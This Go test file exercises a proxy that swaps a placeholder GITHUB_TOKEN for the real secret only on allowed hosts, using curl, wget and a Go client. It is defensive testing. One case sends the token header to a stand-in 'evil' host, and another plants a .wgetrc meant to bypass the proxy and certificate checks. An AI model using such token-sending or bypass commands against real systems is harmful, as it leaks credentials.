//go:build linux

package cases

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

// Real clients, each started by "standin run" with nothing but what that gives
// it, against upstreams that record what arrived.

// client is one test of a real client. It needs programs on the PATH.
type client struct {
	name  string
	tools []string
	run   func(*Case)
}

func clients() []client {
	return slices.Concat([]client{
		{"curl sends a header over both versions of HTTP", []string{"curl"}, curlHeader},
		{"curl sends Basic credentials", []string{"curl"}, curlBasic},
		{"curl tunnels plain HTTP", []string{"curl"}, curlPlain},
		{"curl waits for no 100-continue that does not come", []string{"curl"}, curlExpect},
		{"one secret goes in two headers", []string{"curl"}, curlTwoHeaders},
		{"wget needs nothing but the environment", []string{"wget"}, wgetPlain},
		{"Go takes the proxy and the roots of the environment", nil, goClient},
	}, clientsOfGit(), clientsOfRuntimes(), clientsOfBodies(), clientsOfAnswers(), clientsOfWebSockets(), clientsOfGRPC(), clientsOfTrust())
}

func TestClients(t *testing.T) {
	for _, k := range clients() {
		t.Run(k.name, func(t *testing.T) {
			t.Parallel()
			for _, tool := range k.tools {
				if _, err := exec.LookPath(tool); err != nil {
					t.Skipf("%s is not installed", tool)
				}
			}
			c := newCase(t, "client")
			c.Cleanup(func() {
				if !c.Skipped() {
					c.checkAudit()
				}
			})
			k.run(c)
		})
	}
}

// launch is how a client is started: with rules that are trusted, and with more
// variables of the user's.
func (c *Case) launch(env []string, flags ...string) func(argv ...string) Result {
	c.Helper()
	c.Rules.Write()
	flags = append([]string{"run", "--rules", c.Rules.Path, "--profile", "granted", "--isolation", "session"}, flags...)
	return func(argv ...string) Result {
		c.Helper()
		return c.Finish(c.Command(env, append(append(slices.Clone(flags), "--"), argv...)...))
	}
}

// shell runs a script as the command.
func (c *Case) shell(script string) Result {
	c.Helper()
	return c.launch(nil)("sh", "-euc", script)
}

// said asserts that a client ended well and printed just that.
func (c *Case) said(r Result, out string) {
	c.Helper()
	if r.Code != 0 || strings.TrimSpace(r.Out) != out {
		c.Errorf("the client did not print %q: %s", out, r.description)
	}
}

const authorized = `-H "Authorization: Bearer $GITHUB_TOKEN"`

func curlHeader(c *Case) {
	c.said(c.shell(`curl -sS `+authorized+` -o /dev/null -w '%{http_version} %{http_code}' https://`+api+`/one`), "2 200")
	c.said(c.shell(`curl -sS --http1.1 `+authorized+` -o /dev/null -w '%{http_version} %{http_code}' https://`+api+`/two`), "1.1 200")
	// HTTP/1.0 only, in ALPN as well.
	c.said(c.shell(`curl -sS --http1.0 `+authorized+` -o /dev/null -w '%{http_code}' https://`+api+`/three`), "200")
	c.arrived(c.U1, 3)
	// What comes back holds the placeholder.
	c.said(c.shell(`test "$(curl -sS `+authorized+` https://`+echo+`/ | grep -c "Bearer $GITHUB_TOKEN")" = 1 && echo same`), "same")
	c.arrived(c.UE, 1)
	// Another host of the rules gets nothing.
	c.said(c.shell(`curl -sS `+authorized+` https://`+evil+`/ | grep -o placeholder_misplaced`), "placeholder_misplaced")
	c.U2.Nothing()
	c.Recorded(4, Want{"type": "substitute", "secret": "github", "surface": "header Authorization"})
}

func curlBasic(c *Case) {
	c.said(c.shell(`curl -sS -u "me:$GITHUB_TOKEN" https://`+api+`/basic`), "ok")
	c.said(c.shell(`curl -sS --http1.1 -u "me:$GITHUB_TOKEN" https://`+api+`/basic`), "ok")
	for _, q := range c.U1.Requests(2) {
		c.Equal(q.Values("Authorization"), []string{basic("me", R)})
	}
	c.Recorded(2, Want{"type": "substitute", "surface": "basic password"})
}

func curlPlain(c *Case) {
	const plain, open = "plain.allowed.test", "open.allowed.test"
	c.Rules.Add("{name: plain, hosts: [\"" + plain + ":80\"], scheme: http, substitute: [{secret: github, in: header Authorization}]}")
	u := c.Upstream(plain+":80", Serve{})
	o := c.Upstream(open+":80", Serve{})
	for _, how := range []string{"-p", ""} {
		c.said(c.shell(`curl -sS `+how+` `+authorized+` http://`+plain+`/`), "ok")
		// A host that no rule names is reached, and no secret goes there.
		c.said(c.shell(`curl -sS `+how+` http://`+open+`/`), "ok")
		c.said(c.shell(`curl -sS `+how+` `+authorized+` http://`+open+`/ | grep -o placeholder_misplaced`), "placeholder_misplaced")
		// One that is intercepted for https is not reached in the clear.
		c.said(c.shell(`curl -sS `+how+` `+authorized+` http://`+api+`/ | grep -o cleartext_credential`), "cleartext_credential")
	}
	c.arrived(u, 2)
	for _, q := range o.Requests(2) {
		c.Equal(len(q.Values("Authorization")), 0)
	}
	c.U1.Undialled()
	c.U3.Undialled()
}

// curlExpect: curl is told to wait 20 seconds for the 100, its own second being
// too short to be told from a busy machine.
func curlExpect(c *Case) {
	c.U1.HTTP1()
	c.UR.Script(func(w *wireConn) { // an upstream that never says 100
		head, length, buf := "", -1, make([]byte, 64<<10)
		for got := ""; ; {
			n, err := w.Read(buf)
			if err != nil {
				return
			}
			got += string(buf[:n])
			if end := strings.Index(got, "\r\n\r\n"); end >= 0 && head == "" {
				head, got = got[:end], got[end+4:]
				if _, rest, ok := strings.Cut(head, "Content-Length: "); ok {
					length, _ = strconv.Atoi(strings.Fields(rest)[0])
				}
			}
			if head != "" && (length >= 0 && len(got) >= length || length < 0 && strings.HasSuffix(got, "0\r\n\r\n")) {
				break
			}
		}
		_, _ = io.WriteString(w, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
	})
	body := strings.Repeat("0123456789abcdef", 2<<16)
	if err := os.WriteFile(filepath.Join(c.Dir, "2m"), []byte(body), 0o600); err != nil {
		c.Fatal(err)
	}
	const slow = `curl -sS --expect100-timeout 20 -m 18 -H "Content-Type: text/plain" ` + authorized + ` `
	for _, host := range []string{api, scripts} {
		for _, version := range []string{"--http1.1", "--http2"} {
			c.said(c.shell(slow+version+` --data-binary @2m https://`+host+`/known`), "ok")
			c.said(c.shell(`cat 2m | `+slow+version+` -T - https://`+host+`/unknown`), "ok")
			c.said(c.shell(slow+version+` -H "Expect: 100-continue" --data-binary @2m https://`+host+`/asked`), "ok")
		}
	}
	for _, u := range []*Upstream{c.U1, c.UR} {
		for _, q := range u.Requests(6) {
			if string(q.Body) != body || !slices.Equal(q.Values("Authorization"), []string{"Bearer " + R}) {
				c.Errorf("%s received %d bytes and %q", u.Name, len(q.Body), q.Values("Authorization"))
			}
		}
	}
}

func curlTwoHeaders(c *Case) {
	c.said(c.shell(`curl -sS -o /dev/null -w '%{http_code}' -H "X-Api-Key: $GITHUB_TOKEN" https://`+echo+`/`), "200")
	c.said(c.shell(`curl -sS -o /dev/null -w '%{http_code}' `+authorized+` https://`+echo+`/`), "200")
	c.said(c.shell(`curl -sS -o /dev/null -w '%{http_code}' -H "X-Api-Key: $GITHUB_TOKEN" `+authorized+` https://`+echo+`/`), "200")
	all := c.UE.Requests(3)
	for i, want := range [][2][]string{{{R}, nil}, {nil, {"Bearer " + R}}, {{R}, {"Bearer " + R}}} {
		c.Equal([2][]string{all[i].Values("X-Api-Key"), all[i].Values("Authorization")}, want)
	}
	c.Recorded(2, Want{"type": "substitute", "surface": "header X-Api-Key"})
	c.Recorded(2, Want{"type": "substitute", "surface": "header Authorization"})
}

func wgetPlain(c *Case) {
	c.said(c.shell(`wget -qO- --header="Authorization: Bearer $GITHUB_TOKEN" https://`+api+`/one`), "ok")
	c.arrived(c.U1, 1)
	// The user's own settings stay, but not those that lead around the proxy.
	home := filepath.Join(c.Dir, "user")
	if err := os.Mkdir(home, 0o700); err != nil {
		c.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(home, ".wgetrc"), []byte("user_agent = mine/1\nuse_proxy = off\ncheck_certificate = off\n"), 0o600); err != nil {
		c.Fatal(err)
	}
	r := c.launch([]string{"HOME=" + home})("sh", "-euc", `wget -qO- --header="Authorization: Bearer $GITHUB_TOKEN" https://`+api+`/two`)
	c.said(r, "ok")
	c.arrived(c.U1, 2)
	c.Equal(c.U1.Requests(2)[1].Value("User-Agent"), "mine/1")
}

// clientRole is the first argument with which this test binary plays a client
// that is written in Go.
const clientRole = "play-a-client"

// playClient asks for each URL with the placeholder, by the package's default
// client, and prints protocol and status.
func playClient(urls []string) int {
	switch urls[0] {
	case "websocket":
		return playWebSocket(urls[1])
	case "grpc":
		return playGRPC(urls[1])
	}
	for _, url := range urls {
		req, err := http.NewRequest(http.MethodPost, url, strings.NewReader("body"))
		if err != nil {
			return 2
		}
		if strings.Contains(url, ".allowed.test") {
			req.Header.Set("Authorization", "Bearer "+os.Getenv("GITHUB_TOKEN"))
		}
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			fmt.Println(err)
			return 1
		}
		if _, err := io.Copy(io.Discard, res.Body); err != nil {
			fmt.Println(err)
			return 1
		}
		res.Body.Close()
		fmt.Println(res.Proto, res.StatusCode)
	}
	return 0
}

func goClient(c *Case) {
	c.said(c.launch(nil)(os.Args[0], clientRole, "https://"+api+"/one", "https://"+api+"/two"), "HTTP/2.0 200\nHTTP/2.0 200")
	// A GODEBUG of the user's reaches the command, not the gateway.
	c.said(c.launch([]string{"GODEBUG=http2client=0"})(os.Args[0], clientRole, "https://"+api+"/three"), "HTTP/1.1 200")
	c.arrived(c.U1, 3)
	for _, q := range c.U1.Requests(3) {
		c.Equal(string(q.Body), "body")
		c.Equal(q.Proto, "h2")
	}
}
